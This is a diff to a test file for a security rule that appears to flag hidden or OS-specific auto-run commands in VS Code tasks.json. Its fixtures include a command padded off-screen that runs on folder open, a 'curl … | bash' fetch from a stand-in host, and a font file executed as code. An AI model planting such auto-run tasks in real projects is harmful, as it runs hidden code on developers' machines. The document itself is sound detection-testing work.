@@ -19,6 +19,16 @@ ruleTest(rule, {
       findings: [{ line: 3, evidence: /^&& node -e "eval/, message: /240 blank.*npm install/ }],
     },
     {
+      name: 'a per-OS command pushed off-screen inside tasks.json',
+      files: {
+        '.vscode/tasks.json': `{\n "tasks": [{\n  "label": "deps", "command": "npm install",${pad}"windows": { "command": "npm.cmd install; node .vscode/x" },\n  "runOptions": { "runOn": "folderOpen" }\n }]\n}`,
+      },
+      findings: [
+        { line: 3, evidence: /^default: npm install\nwindows: npm\.cmd install; node \.vscode\/x$/, message: /different command on each OS/ },
+        { line: 3, evidence: /^"windows": \{ "command": "npm\.cmd install; node \.vscode\/x" \}/, severity: 'high', message: /off-screen after 240 blank/ },
+      ],
+    },
+    {
       name: 'per-OS folder-open variants that differ',
       files: {
         '.vscode/tasks.json': '{\n "tasks": [{\n  "label": "env",\n  "osx": { "command": "curl -s http://x.example/m | bash" },\n  "windows": { "command": "node public/a.woff2" },\n  "runOptions": { "runOn": "folderOpen" }\n }]\n}',
